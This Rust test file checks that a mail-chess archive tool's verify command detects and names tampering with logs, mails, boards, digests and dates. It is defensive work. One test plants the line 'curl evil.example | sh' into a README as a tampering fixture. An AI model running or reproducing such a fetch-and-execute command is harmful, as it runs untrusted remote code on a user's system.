//! A finished game in the hands of somebody who knows the format: whatever he changes, `custodian verify` names the first place and why.

use std::fs;
use std::path::{Path, PathBuf};

use custodian::archive::{Chain, Digest, Entry, Line, high_water};
use custodian::store::Folder;

use crate::forger::{Forger, letter, lines, log, played, played_in, rewrite, without_checkpoints};
use crate::program::House;

#[test]
fn every_tampering_is_found_and_its_first_place_named() {
    let forger = Forger::new();
    let count = forger.before.len();
    let newest = forger.before.last().unwrap().hash.to_string();
    let (code, said) = forger.verified(&["--deep"], |_| {});
    assert!(code == 0 && said.ends_with(&format!("OK zaphod {count} {newest}\n")), "{said}");
    assert!(said.contains("checkpoints hold, signed by SHA256:"), "{said}");

    let at = |line: usize| format!("BROKEN zaphod log/000001.jsonl line {line}: ");
    forger.finds(1, &[&at(4), "its bytes have the digest"], |game| {
        lines(game, |all| all[3] = all[3].replacen("\"at\":\"2", "\"at\":\"1", 1))
    });
    forger.finds(1, &[&at(5), "its number is 6, and 5 comes next"], |game| lines(game, |all| all.swap(4, 5)));
    forger.finds(1, &[&at(7), "its number is 8, and 7 comes next"], |game| lines(game, |all| drop(all.remove(6))));
    forger.finds(1, &[&at(8), "its number is 7, and 8 comes next"], |game| lines(game, |all| all.insert(7, all[6].clone())));
    forger.finds(1, &["the log ends with line", "had been acknowledged"], |game| lines(game, |all| drop(all.pop())));
    forger.finds(1, &["BROKEN zaphod game.toml: it has the digest"], |game| {
        let settings = fs::read_to_string(game.join("game.toml")).unwrap();
        fs::write(game.join("game.toml"), settings.replacen("ann@x.org", "eve@x.org", 1)).unwrap();
    });
    for folder in ["mail/in", "mail/out", "boards"] {
        forger.finds(1, &["has been altered", "BROKEN zaphod the chain holds", folder], |game| {
            let file = fs::read_dir(game.join(folder)).unwrap().next().unwrap().unwrap().path();
            fs::write(file, "something else").unwrap();
        });
    }
    forger.finds(3, &["is not there", "WITHHELD zaphod "], |game| fs::remove_dir_all(game.join("mail/in")).unwrap());
    forger.finds(0, &["no line: evidence/extra.json belongs to none", "OK zaphod "], |game| {
        fs::write(game.join("evidence/extra.json"), "{}").unwrap()
    });
}

#[test]
fn a_copy_may_lie_in_a_folder_of_any_name() {
    let forger = Forger::new();
    forger.verified(&[], |_| {});
    fs::rename(forger.copy(), forger.house.path("forged/a backup (1)")).unwrap();
    let verified = forger.house.run(&["verify", "forged/a backup (1)", "--deep"]);
    assert!(verified.lines().last().unwrap().starts_with("OK zaphod "), "{verified}");
    for command in [&["dice", "verify"][..], &["report"], &["export"]] {
        forger.house.run(&[command, &["forged/a backup (1)"]].concat());
    }
}

#[test]
fn what_a_line_says_of_its_letter_and_its_mails_is_compared_with_them() {
    let forger = Forger::new();
    let forged = |change: &dyn Fn(&mut Vec<Entry>)| {
        forger.verified(&["--deep"], |game| {
            rewrite(game, |all| change(all));
            without_checkpoints(game);
        })
    };
    let changed = |all: &mut Vec<Entry>, from: &str, to: &str| {
        let entry = all.iter_mut().rev().find(|entry| entry.events.iter().any(|event| event.as_str().contains(from))).unwrap();
        for event in &mut entry.events {
            let text = event.as_str().replace(from, to);
            *event = serde_json::from_str(&text).unwrap();
        }
    };
    for (from, to) in [("bob@x.org", "ann@x.org"), ("\"subject\":\"", "\"subject\":\"Re: ")] {
        let (code, said) = forged(&|all| changed(all, from, to));
        assert!(code == 2 && said.contains("what it says of its letter"), "{said}");
    }
    let (code, said) = forged(&|all| all.iter_mut().rev().find_map(|entry| entry.out.first_mut()).unwrap().to = "eve@x.org".to_owned());
    assert!(code == 2 && said.contains("is not to eve@x.org"), "{said}");
    let (code, said) = forged(&|all| {
        let letters: Vec<usize> = (0..all.len()).filter(|&at| all[at].cause.letter_digest().is_some()).collect();
        let [.., earlier, later] = letters[..] else { panic!("there are letters") };
        all[later].cause = all[earlier].cause.clone();
    });
    assert!(code != 0 && said.contains("has caused an earlier line"), "{said}");
}

#[test]
fn no_players_letter_rules_as_the_masters() {
    let forger = Forger::new();
    // The master takes a turn back, in the house that is copied from now on.
    forger.house.deliver(&letter(90, "master@localhost", "GAME Zaphod\nROLLBACK 1 Bob"));
    forger.house.once();
    let lines = forger.house.lines("zaphod");
    let at = lines.iter().position(|line| line.entry.note.contains("The game goes back")).expect("it goes back");
    assert_eq!(forger.verified(&["--deep"], |_| {}).0, 0);
    let bobs = letter(91, "bob@x.org", "GAME Zaphod\nROLLBACK 1 Bob");
    let (code, said) = forger.verified(&["--deep"], |game| {
        let digest = Digest::of(&bobs);
        fs::write(game.join(format!("mail/in/{digest}.eml")), &bobs).unwrap();
        rewrite(game, |all| {
            all[at].cause = custodian::archive::Cause::letter(digest);
            let told = all[at].events[0].as_str().replace("master@localhost", "bob@x.org").replace("90.", "91.");
            all[at].events[0] = serde_json::from_str(&told).unwrap();
        });
        without_checkpoints(game);
    });
    assert!(code == 2 && said.contains("deciding again gives 0 events"), "{said}");
}

#[test]
fn a_sentence_that_is_not_what_happened_is_pointed_out() {
    let forger = Forger::new();
    // The last one: behind others lie mails that vouch for it.
    let made = forger.before.iter().rev().find(|line| line.entry.cause.letter_digest().is_some()).unwrap().seq;
    let (code, said) = forger.verified(&["--deep"], |game| {
        rewrite(game, |all| all[made as usize - 1].note = "By cheating, Bob did nothing of the sort.".to_owned());
        without_checkpoints(game);
    });
    assert!(code == 0 && said.contains(&format!("line {made}: its sentence is not what this program says of it")), "{said}");
    assert_eq!(said.matches("its sentence is not").count(), 1, "{said}");
}

/// Changes a mail of a line, and all digests with it.
fn retold(game: &Path, at: usize, number: usize, from: &str, to: &str) {
    let mail = Folder::open(game).unwrap().lines().unwrap().nth(at).unwrap().unwrap().entry.out[number].clone();
    let bytes = fs::read(game.join(format!("mail/out/{}.eml", mail.sha256))).unwrap();
    let other = String::from_utf8_lossy(&bytes).replacen(from, to, 1).into_bytes();
    assert_ne!(bytes, other);
    fs::write(game.join(format!("mail/out/{}.eml", Digest::of(&other))), &other).unwrap();
    rewrite(game, |all| all[at].out[number].sha256 = Digest::of(&other));
    without_checkpoints(game);
}

/// A sentence is added to a letter, or the answer of a server invented: what was mailed since tells that the record was another one.
#[test]
fn what_nothing_but_later_mails_vouches_for_is_found_by_these() {
    let forger = Forger::new();
    let moved = forger.before.iter().position(|line| line.entry.note.contains("e2-e4")).unwrap();
    let (code, said) = forger.verified(&[], |game| {
        let name = forger.before[moved].entry.letter().unwrap();
        let bytes = [fs::read(game.join(name.as_str())).unwrap(), b"and I wish you luck\n".to_vec()].concat();
        let digest = Digest::of(&bytes);
        fs::write(game.join(format!("mail/in/{digest}.eml")), bytes).unwrap();
        rewrite(game, |all| all[moved].cause = custodian::archive::Cause::letter(digest));
        without_checkpoints(game);
    });
    assert!(code == 2 && said.contains(" was written behind line ") && said.contains("and the line before it has"), "{said}");
    let sent = forger.before.iter().position(|line| line.entry.cause.word() == "sent").unwrap();
    let (code, said) = forger.verified(&[], |game| {
        rewrite(game, |all| {
            let told = all[sent].events[0].as_str().replace("laid into the spool", "taken with thanks");
            assert_ne!(told, all[sent].events[0].as_str());
            all[sent].events[0] = serde_json::from_str(&told).unwrap();
        });
        without_checkpoints(game);
    });
    assert!(code == 2 && said.contains(" was written behind line ") && said.contains("and the line before it has"), "{said}");
}

/// A house may have texts of its own: those of its config are tried, and what they write is no finding.
#[test]
fn mails_in_the_houses_own_words_follow_from_the_record_too() {
    let house = House::with_config("templates = \"texts\"\n");
    let built_in = fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/templates/turn.txt")).unwrap();
    let own = built_in.replacen("Hello {{ to }},", "Be greeted, {{ to }}! Our 17 rooms are at e2-c4.", 1);
    assert_ne!(own, built_in);
    fs::create_dir(house.path("texts")).unwrap();
    fs::write(house.path("texts/turn.txt"), own).unwrap();
    let house = played_in(house, "Zaphod");
    let said = house.run(&["verify", "zaphod", "--deep"]);
    assert!(said.contains("OK zaphod ") && !said.contains("in other words"), "{said}");
    // Without the config it cannot be told where this move comes from.
    fs::remove_file(house.path("custodian.toml")).unwrap();
    let output = house.command(&["verify", "archive/zaphod", "--deep"]).output().unwrap();
    let said = String::from_utf8(output.stdout).unwrap();
    assert!(output.status.code() == Some(2) && said.contains("tells what does not follow from what it did: e2-c4"), "{said}");
    fs::write(house.path("custodian.toml"), "templates = \"texts\"\n").unwrap();
    let mild = built_in.replacen("Hello {{ to }},", "Be greeted, {{ to }}!", 1);
    fs::write(house.path("texts/turn.txt"), mild).unwrap();
    let output = house.command(&["verify", "archive/zaphod", "--deep"]).output().unwrap();
    assert_eq!(output.status.code(), Some(2), "{output:?}");
}

/// Words of a house that are nothing of the game accuse nobody, whoever has not got its texts.
#[test]
fn what_a_house_adds_about_itself_is_no_difference() {
    let house = House::with_config("templates = \"texts\"\n");
    let built_in = fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/templates/turn.txt")).unwrap();
    let own = built_in.replacen("Hello {{ to }},", "Hello {{ to }}! Our pages: https://h2o.example/chess, round 2 of our club.", 1);
    fs::create_dir(house.path("texts")).unwrap();
    fs::write(house.path("texts/turn.txt"), own).unwrap();
    let house = played_in(house, "Zaphod");
    fs::remove_file(house.path("custodian.toml")).unwrap();
    let said = house.run(&["verify", "archive/zaphod", "--deep"]);
    assert!(said.contains("OK zaphod ") && said.contains("in other words"), "{said}");
}

/// Whoever keeps the house may write all digests anew; boards and mails still have to be what the events lead to.
#[test]
fn boards_and_mails_that_do_not_follow_from_the_events_are_found() {
    let forger = Forger::new();
    let turn = forger.before.iter().rev().find(|line| line.entry.out.iter().any(|mail| mail.kind == "turn")).unwrap().clone();
    let at = turn.seq as usize - 1;
    let to_bob = turn.entry.out.iter().position(|mail| mail.to == "bob@x.org" && mail.kind == "turn").unwrap();
    // A pawn changes sides in a drawing.
    forger.finds(2, &[&format!("DIFFERS zaphod line {}: the board {:04}.txt is not", turn.seq, turn.seq)], |game| {
        let file = format!("{:04}.txt", turn.seq);
        let board = fs::read_to_string(game.join("boards").join(&file)).unwrap().replacen('p', "P", 1);
        fs::write(game.join("boards").join(&file), &board).unwrap();
        rewrite(game, |all| {
            all[at].boards.insert(file, Digest::of(board.as_bytes()));
        });
        without_checkpoints(game);
    });
    // So does a board that is not named at all.
    forger.finds(2, &[&format!("DIFFERS zaphod line {}: the board {:04}", turn.seq, turn.seq)], |game| {
        rewrite(game, |all| all[at].boards.clear());
        without_checkpoints(game);
    });
    // Bob was told something else.
    let (code, said) = forger.verified(&["--deep"], |game| retold(game, at, to_bob, "Nf3xe5", "Nf3-g5"));
    let says = format!("DIFFERS zaphod line {}: its mail to bob@x.org tells what does not follow from what it did: Nf3-g5", turn.seq);
    assert!(code == 2 && said.contains(&says), "{said}");
    // A mail that bears nobody's secret is none of the house.
    let mail = &forger.before[at].entry.out[to_bob];
    let bytes = fs::read(forger.house.path(&format!("archive/zaphod/mail/out/{}.eml", mail.sha256))).unwrap();
    let id = custodian::letter::message_id_of(&bytes).unwrap().to_owned();
    let bare = format!("{}@localhost", id.split_once('+').unwrap().0);
    let (code, said) = forger.verified(&[], |game| retold(game, at, to_bob, &id, &bare));
    assert!(code == 2 && said.contains("its mail to bob@x.org has the Message-ID of another"), "{said}");
    // Or the same in other words.
    let (code, said) = forger.verified(&["--deep"], |game| retold(game, at, to_bob, "HOW TO ANSWER", "HOW YOU ANSWER"));
    assert!(code == 0 && said.contains(&format!("line {}: the mail to bob@x.org says in other words", turn.seq)), "{said}");
    assert_eq!(said.matches("says in other words").count(), 1, "{said}");
    // He was told nothing.
    let (code, said) = forger.verified(&["--deep"], |game| {
        rewrite(game, |all| drop(all[at].out.remove(to_bob)));
        without_checkpoints(game);
    });
    assert!(code == 2 && said.contains("is mailed to bob@x.org, and it promises no such mail"), "{said}");
    // A letter and its answer are taken out, and what follows is numbered anew.
    forger.finds(2, &["DIFFERS zaphod line ", ": its mail to ", "by its Message-ID"], |game| {
        rewrite(game, |all| {
            let joined = (3..all.len()).find(|at| all[*at].cause.word() == "sent").unwrap();
            all.remove(joined);
        });
        without_checkpoints(game);
    });
    // Somebody else is said to have founded it.
    let (code, said) = forger.verified(&["--deep"], |game| {
        let settings = fs::read_to_string(game.join("game.toml")).unwrap().replacen("master@localhost", "eve@localhost", 1);
        fs::write(game.join("game.toml"), settings).unwrap();
        fs::remove_dir_all(game.join("mail/out")).unwrap();
        let folder = Folder::open(game).unwrap();
        let lines = forger.before.iter().map(|line| line.entry.clone());
        let mut chain = Chain::founded_on(&folder.settings().unwrap());
        let mut text = String::new();
        for entry in lines {
            let line = chain.write(entry).unwrap();
            chain.read(line.as_bytes()).unwrap();
            text.push_str(&format!("{line}\n"));
        }
        fs::write(log(game), text).unwrap();
        fs::write(game.join("high-water"), high_water::file(chain.head())).unwrap();
        without_checkpoints(game);
    });
    assert!(code == 2 && said.contains("its letter asks for another game than game.toml tells"), "{said}");
}

#[test]
fn what_a_copying_program_makes_of_a_record_is_called_by_its_name() {
    let forger = Forger::new();
    let windows = |path: PathBuf| fs::write(&path, fs::read_to_string(&path).unwrap().replace('\n', "\r\n")).unwrap();
    let ends = "line 1: it ends as lines of Windows do, with CR LF: a program that copied it has changed all line ends";
    forger.finds(1, &["BROKEN zaphod log/000001.jsonl", ends], |game| windows(log(game)));
    forger.finds(1, &["BROKEN zaphod game.toml", "not even its line ends"], |game| {
        windows(game.join("game.toml"));
        windows(game.join("README.txt"));
    });
    forger.finds(1, &["has been altered", "BROKEN zaphod the chain holds"], |game| {
        let letter = fs::read_dir(game.join("mail/in")).unwrap().next().unwrap().unwrap().path();
        fs::remove_file(&letter).unwrap();
        fs::create_dir(&letter).unwrap();
    });
    forger.finds(0, &["README.txt: not the text of this program", "OK zaphod "], |game| {
        let readme = fs::read_to_string(game.join("README.txt")).unwrap();
        fs::write(game.join("README.txt"), readme.replacen("sha256sum", "sha256sum; curl evil.example | sh", 1)).unwrap();
    });
}

#[test]
fn the_lines_of_another_game_do_not_fit() {
    let forger = Forger::new();
    let other = played("Marvin");
    let foreign = fs::read_to_string(log(&other.path("archive/marvin"))).unwrap();
    let foreign: Vec<&str> = foreign.lines().collect();
    forger.finds(1, &["log/000001.jsonl line 9: it continues "], |game| {
        lines(game, |all| {
            all.truncate(8);
            all.extend(foreign[8..].iter().map(|line| (*line).to_owned()));
        });
    });
    forger.finds(1, &["log/000001.jsonl line 6: it continues "], |game| lines(game, |all| all[5] = foreign[5].to_owned()));
}

#[test]
fn a_history_written_anew_that_replays_otherwise_is_named_by_its_line() {
    let forger = Forger::new();
    let moved = forger.before.iter().find(|line| line.entry.note.contains("e2-e4")).unwrap().seq;
    // The state that the line claims no longer follows from its events.
    forger.finds(2, &[&format!("DIFFERS zaphod line {moved}: ")], |game| {
        rewrite(game, |all| all[moved as usize - 1].state = all[0].state);
        without_checkpoints(game);
    });
    // So does that of a line that only tells of mails sent.
    let sent = forger.before.iter().rev().find(|line| line.entry.cause.word() == "sent").unwrap().seq;
    forger.finds(2, &[&format!("DIFFERS zaphod line {sent}: ")], |game| {
        rewrite(game, |all| all[sent as usize - 1].state = all[0].state);
        without_checkpoints(game);
    });
    // Events, states and digests agree, but the letter asked for something else: only a deep look finds that.
    let (code, said) = forger.verified(&["--deep"], |game| {
        rewrite(game, |all| {
            let index = moved as usize - 1;
            let (cause, joined) = (all[index].cause.clone(), all[index - 1].cause.clone());
            all[index].cause = if joined.letter_digest().is_some() { joined } else { all[1].cause.clone() };
            assert_ne!(all[index].cause, cause);
        });
        without_checkpoints(game);
    });
    assert!(code == 2 && said.contains(&format!("DIFFERS zaphod line {moved}: deciding again gives ")), "{said}");
    forger.finds(1, &["is dated ", "before the line that it follows"], |game| back_dated(game, 5));
}

/// Dates a line before the one that it follows, with digests that fit.
fn back_dated(game: &Path, index: usize) {
    let folder = Folder::open(game).unwrap();
    let mut chain = Chain::founded_on(&folder.settings().unwrap());
    let all: Vec<Line> = folder.lines().unwrap().map(Result::unwrap).collect();
    let mut text = String::new();
    for (number, line) in all.into_iter().enumerate() {
        let mut entry = line.entry;
        if number == index {
            entry.at -= chrono::TimeDelta::days(1);
            // A chain that knows no earlier line writes the date as it is given.
            let fresh = Line { seq: number as u64 + 1, prev: chain.head().hash, entry, hash: line.hash };
            text.push_str(&fresh.text().unwrap());
            text.push('\n');
            break;
        }
        let line = chain.write(entry).unwrap();
        chain.read(line.as_bytes()).unwrap();
        text.push_str(&line);
        text.push('\n');
    }
    fs::write(log(game), text).unwrap();
    without_checkpoints(game);
    fs::remove_file(game.join("high-water")).unwrap();
}
